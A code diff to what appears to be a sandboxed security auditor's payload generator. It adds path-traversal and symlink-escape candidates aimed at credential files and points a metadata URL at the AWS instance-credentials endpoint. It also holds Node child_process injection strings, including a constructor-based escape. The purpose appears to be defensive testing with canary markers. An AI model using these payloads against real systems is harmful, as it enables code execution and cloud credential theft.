@@ -1,5 +1,6 @@
 import { posix } from 'node:path'
 import type { Attack, AttackClass, AttackRole } from '../../model/index.js'
+import { AWS_ROLE } from '../../sandbox/canary-cloud.js'
 
 // The hostile values, per role, strongest first. Each is made for one marker (the run's random prefix and
 // the attack's index: nothing in it names the auditor), which it carries into whatever it would make a
@@ -19,6 +20,8 @@ export interface OutsidePlaces {
   siblings: { root: string; dir: string; file: string }[]
   /** per declared root: the planted link's name, and the directory outside it points to */
   links: { root: string; name: string; pointsTo: string; file: string }[]
+  /** per declared root: a link to a file outside (a check that resolves a file's parent, not the file, lets it through) */
+  fileLinks?: { root: string; name: string; pointsTo: string }[]
 }
 
 export interface PayloadContext {
@@ -44,7 +47,8 @@ export interface PathUse {
 }
 
 export const MARKER_PROGRAM_DIR = '/tmp'
-export const METADATA_URL = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'
+/** The instance role's credentials: the canary cloud the sink plays answers with this run's canaries. */
+export const METADATA_URL = `http://169.254.169.254/latest/meta-data/iam/security-credentials/${AWS_ROLE}`
 export const PROBE_DOMAIN = 'invalid'
 const CLIMBS = 12
 
@@ -62,13 +66,10 @@ function pathCandidates(context: PayloadContext, use: PathUse): Candidate[] {
   const aim = (dir: string, existing: string) => (marker: string) => (use.writes ? posix.join(dir, `${marker}.txt`) : existing)
   const home = aim(outside.home, outside.credential)
   const relativeTo = (root: string, target: string): string => posix.relative(root, target)
-  const made: Candidate[] = [
-    candidate('path', 'climb', 'path', (marker) => {
-      const target = home(marker)
-      const root = outside.siblings[0]?.root ?? outside.links[0]?.root
-      return { value: use.absolute && root ? `${root}/${up}${target.slice(1)}` : `${up}${target.slice(1)}`, target }
-    })
-  ]
+  const root = outside.siblings[0]?.root ?? outside.links[0]?.root
+  const made: Candidate[] = [candidate('path', 'climb', 'path', (marker) => ({ value: `${up}${home(marker).slice(1)}`, target: home(marker) }))]
+  if (root !== undefined)
+    made.push(candidate('path', 'climb-from-root', 'path', (marker) => ({ value: `${root}/${up}${home(marker).slice(1)}`, target: home(marker) })))
   for (const sibling of outside.siblings.slice(0, 2)) {
     const target = aim(sibling.dir, sibling.file)
     made.push(
@@ -87,6 +88,10 @@ function pathCandidates(context: PayloadContext, use: PathUse): Candidate[] {
         target: target(marker)
       }))
     )
+  }
+  for (const link of use.writes ? [] : (outside.fileLinks ?? []).slice(0, 2)) {
+    const inRoot = posix.join(link.root, link.name)
+    made.push(candidate('path', 'symlink-file', 'path', () => ({ value: use.absolute ? inRoot : link.name, target: link.pointsTo })))
   }
   made.push(
     candidate('path', 'absolute', 'path', (marker) => ({ value: home(marker), target: home(marker) })),
@@ -125,7 +130,8 @@ const SHELL: [string, (marker: string) => string][] = [
 const NODE: [string, (marker: string) => string][] = [
   ['node-builtin', (marker) => `process.getBuiltinModule('child_process').execFileSync('${markerProgram(marker)}')`],
   ['node-require', (marker) => `require('child_process').execFileSync('${markerProgram(marker)}')`],
-  ['node-import', (marker) => `import('child_process').then((c) => c.execFileSync('${markerProgram(marker)}'))`],
+  // caught: a rejection nobody handles would end the server, and the attacks after it with it
+  ['node-import', (marker) => `import('child_process').then((c) => c.execFileSync('${markerProgram(marker)}')).catch(() => 0)`],
   [
     'node-constructor',
     (marker) => `this.constructor.constructor('return process')().getBuiltinModule('child_process').execFileSync('${markerProgram(marker)}')`
@@ -198,7 +204,7 @@ export function candidatesFor(roles: readonly AttackRole[], strength: 'strong' |
   const shell = (count: number, role: AttackRole) => of('shell', role, SHELL.slice(0, count))
   const argv = (count: number, role: AttackRole) => of('argv', role, ARGV.slice(0, count))
   for (const role of roles) {
-    if (role === 'path') add([...pathCandidates(context, use), ...shell(1, 'path')])
+    if (role === 'path') add(withShellAt(pathCandidates(context, use), shell(1, 'path'), 7))
     else if (role === 'url') add([...urlCandidates(context), ...argv(2, 'url'), ...shell(1, 'url')])
     else if (role === 'command') add(shell(SHELL.length, 'command'))
     else if (role === 'code') add([...codeCandidates(context.language), ...shell(1, 'code')])
@@ -207,6 +213,11 @@ export function candidatesFor(roles: readonly AttackRole[], strength: 'strong' |
     else add([...shell(2, 'argv'), ...argv(1, 'argv')])
   }
   return out
+}
+
+/** `list` with `extra` put in at `at` (so a per-parameter cap keeps it). */
+function withShellAt(list: Candidate[], extra: Candidate[], at: number): Candidate[] {
+  return [...list.slice(0, at), ...extra, ...list.slice(at)]
 }
 
 /** A value the parameter's own schema refuses never reaches the code: not worth a call. */
